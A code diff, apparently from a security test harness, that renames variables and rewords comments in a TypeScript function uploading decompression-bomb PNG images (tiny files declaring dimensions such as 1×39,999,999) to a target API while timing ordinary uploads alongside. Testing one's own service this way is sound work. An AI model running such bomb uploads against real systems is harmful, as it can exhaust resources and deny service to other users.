@@ -24,7 +24,7 @@ const chunk = (type: string, data: Uint8Array): Buffer => {
   return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
 }
 
-/** A small file that unpacks to as many black grey-scale pixels as it says. */
+/** A small file that decompresses to a black greyscale picture of this size. */
 const pngOf = (width: number, height: number): Buffer => {
   const header = Buffer.alloc(13)
   header.writeUInt32BE(width, 0)
@@ -51,11 +51,11 @@ const photo = (): Promise<Buffer> =>
     .jpeg({ quality: 70 })
     .toBuffer()
 
-/** Pictures that cost far more to unpack than to send, then twenty ordinary photographs at once. */
+/** Uploads pictures that cost far more to decompress than to send, then twenty ordinary photographs at once. */
 export const attackPictures = async (target: Target): Promise<ReadonlyArray<Outcome>> => {
   const { note, outcome } = outcomeOf("pictures")
   const bombs = [pngOf(1, 39_999_999), pngOf(39_999_999, 1), pngOf(6_300, 6_300)]
-  const meanwhile = await withBystander("pictures", target, async () => {
+  const bystander = await withBystander("pictures", target, async () => {
     const upload = async (index: number, bytes: Buffer, isBomb: boolean) => {
       const { sessionId } = await apiCaller(target.origin, fromSomewhere(index)).ask(StartBusinessDetails, {
         region: "IN",
@@ -81,8 +81,8 @@ export const attackPictures = async (target: Target): Promise<ReadonlyArray<Outc
       ...Array.from({ length: 4 }, () => ({ bytes: bombs[2] ?? Buffer.alloc(0), isBomb: false })),
     ]
     await eachOf(jobs.entries(), 6, ([index, { bytes, isBomb }]) => upload(1_000 + index, bytes, isBomb))
-    const taken = await photo()
-    await eachOf(Array.from({ length: 20 }).entries(), 20, ([index]) => upload(2_000 + index, taken, false))
+    const photoBytes = await photo()
+    await eachOf(Array.from({ length: 20 }).entries(), 20, ([index]) => upload(2_000 + index, photoBytes, false))
   })
-  return [outcome(), meanwhile]
+  return [outcome(), bystander]
 }
